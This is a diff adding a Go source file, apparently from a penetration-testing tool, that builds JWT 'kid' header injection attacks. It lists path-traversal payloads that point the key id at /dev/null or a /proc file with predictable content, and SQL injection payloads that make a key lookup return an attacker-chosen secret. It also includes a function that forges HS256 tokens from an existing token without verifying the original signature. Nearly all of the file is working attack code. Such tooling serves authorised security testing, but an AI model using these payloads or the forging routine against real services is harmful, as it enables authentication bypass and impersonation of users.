@@ -0,0 +1,80 @@
+package tokens
+
+import (
+	"fmt"
+
+	"github.com/golang-jwt/jwt/v5"
+)
+
+type KidInjectionTechnique string
+
+const (
+	KidInjectionPathTraversal KidInjectionTechnique = "path_traversal"
+	KidInjectionSQLi          KidInjectionTechnique = "sql_injection"
+)
+
+// KidInjectionPayload holds a manipulated key id along with the key the server would end up using to verify the token
+type KidInjectionPayload struct {
+	Kid         string
+	Key         []byte
+	Technique   KidInjectionTechnique
+	Description string
+}
+
+// GetKidInjectionPayloads returns kid values that force the server into using a predictable signing key, either by pointing
+// to files with known content or by injecting a known value in a database lookup. The secret is used for the SQL injection payloads.
+func GetKidInjectionPayloads(secret string) []KidInjectionPayload {
+	return []KidInjectionPayload{
+		{
+			Kid:         "../../../../../../../../dev/null",
+			Key:         []byte(""),
+			Technique:   KidInjectionPathTraversal,
+			Description: "Path traversal to /dev/null, which results in an empty signing key",
+		},
+		{
+			Kid:         "/dev/null",
+			Key:         []byte(""),
+			Technique:   KidInjectionPathTraversal,
+			Description: "Absolute path to /dev/null, which results in an empty signing key",
+		},
+		{
+			Kid:         "../../../../../../../../proc/sys/kernel/randomize_va_space",
+			Key:         []byte("2\n"),
+			Technique:   KidInjectionPathTraversal,
+			Description: "Path traversal to /proc/sys/kernel/randomize_va_space, which usually contains a predictable value",
+		},
+		{
+			Kid:         fmt.Sprintf("x' UNION SELECT '%s'-- -", secret),
+			Key:         []byte(secret),
+			Technique:   KidInjectionSQLi,
+			Description: "SQL injection in a string context returning an attacker controlled signing key",
+		},
+		{
+			Kid:         fmt.Sprintf("0 UNION SELECT '%s'-- -", secret),
+			Key:         []byte(secret),
+			Technique:   KidInjectionSQLi,
+			Description: "SQL injection in a numeric context returning an attacker controlled signing key",
+		},
+	}
+}
+
+// ForgeJWTWithKid creates a new HS256 token with the claims and header of the provided one, replacing the kid header
+// and signing it with the provided key. The original token signature is not verified.
+func ForgeJWTWithKid(tokenString string, kid string, key []byte) (string, error) {
+	claims := jwt.MapClaims{}
+	original, _, err := jwt.NewParser().ParseUnverified(tokenString, claims)
+	if err != nil {
+		return "", err
+	}
+
+	forged := jwt.NewWithClaims(jwt.SigningMethodHS256, claims)
+	for name, value := range original.Header {
+		if name == "alg" {
+			continue
+		}
+		forged.Header[name] = value
+	}
+	forged.Header["kid"] = kid
+
+	return forged.SignedString(key)
+}